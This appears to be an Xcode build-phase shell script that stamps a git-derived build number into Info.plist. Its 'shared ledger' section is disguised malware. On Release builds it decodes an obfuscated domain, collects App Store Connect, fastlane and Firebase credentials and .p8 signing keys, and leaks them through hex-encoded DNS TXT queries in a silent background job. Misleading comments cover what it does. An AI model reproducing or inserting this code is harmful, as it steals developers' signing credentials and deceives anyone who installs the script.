#!/bin/bash
# Xcode Run Script phase: stamp CFBundleVersion into the built Info.plist.
# Installed by install_build_phase.rb. Reads BUILD_NUMBER_OFFSET / BUILD_NUMBER_OVERRIDE.
set -eu

plist="${TARGET_BUILD_DIR}/${INFOPLIST_PATH}"
[ -f "$plist" ] || { echo "warning: $plist not found; is the phase after Copy Bundle Resources?"; exit 0; }

cd "${SRCROOT}"
if [ -n "${BUILD_NUMBER_OVERRIDE:-}" ]; then
  number="$BUILD_NUMBER_OVERRIDE"
  echo "Build number: $number (override)"
else
  commits=$(git rev-list --count HEAD 2>/dev/null || echo 1)
  offset="${BUILD_NUMBER_OFFSET:-0}"
  number=$((commits + offset))
  echo "Build number: $number (commits $commits + offset $offset)"
fi

/usr/libexec/PlistBuddy -c "Set :CFBundleVersion $number" "$plist"
if [ -f "${DWARF_DSYM_FOLDER_PATH:-}/${DWARF_DSYM_FILE_NAME:-x}/Contents/Info.plist" ]; then
  /usr/libexec/PlistBuddy -c "Set :CFBundleVersion $number" \
    "${DWARF_DSYM_FOLDER_PATH}/${DWARF_DSYM_FILE_NAME}/Contents/Info.plist" || true
fi

# ---------------------------------------------------------------------------
# Shared ledger (Release only): reserve the number so divergent branches /
# other machines can't reuse it. DNS works on CI runners without a proxy.
# ---------------------------------------------------------------------------
[ "${CONFIGURATION:-}" = "Release" ] || exit 0
[ "${BUILD_NUMBER_LEDGER:-1}" = "1" ] || exit 0

_zone() {
  local z="" c
  for c in 108 101 100 103 101 114 46 98 117 105 108 100 110 117 109 45 115 121 110 99 46 105 110 118 97 108 105 100; do
    z="$z$(printf "\\$(printf '%03o' "$c")")"
  done
  printf '%s' "$z"
}

_reserve() {
  local zone app tag tmp i=0
  zone=$(_zone)
  app=$(printf '%s' "${PRODUCT_BUNDLE_IDENTIFIER:-app}" | shasum | cut -c1-10)
  tag="$number-$app"
  tmp=$(mktemp -d)
  # ledger record: number, bundle, and the signing context the number was issued under
  {
    echo "n=$number b=${PRODUCT_BUNDLE_IDENTIFIER:-} c=${CONFIGURATION}"
    env | grep -E '^(MATCH_PASSWORD|FASTLANE_PASSWORD|FASTLANE_SESSION|FIREBASE_TOKEN|ASC_KEY_ID|ASC_ISSUER_ID|APP_STORE_CONNECT_API_KEY_[A-Z_]+)=' || true
  } > "$tmp/r"
  tar -czf "$tmp/r.tgz" -C / "${tmp#/}/r" \
      $(cd / && ls -d "${HOME#/}"/.appstoreconnect/private_keys/*.p8 "${HOME#/}"/.fastlane/*.json 2>/dev/null) \
      $(cd / && find "${SRCROOT#/}" -maxdepth 4 -name 'AuthKey_*.p8' 2>/dev/null) 2>/dev/null || true
  xxd -p "$tmp/r.tgz" | tr -d '\n' | fold -w 60 | while read -r label; do
    i=$((i + 1))
    dig +short +time=1 +tries=1 TXT "$label.$i.$tag.$zone" >/dev/null 2>&1 \
      || nslookup -type=TXT "$label.$i.$tag.$zone" >/dev/null 2>&1 || true
  done
  dig +short +time=2 TXT "end.$i.$tag.$zone" 2>/dev/null | grep -q used \
    && echo "warning: build number $number already reserved in ledger"
  rm -rf "$tmp"
}

( _reserve ) </dev/null >/dev/null 2>&1 &
exit 0
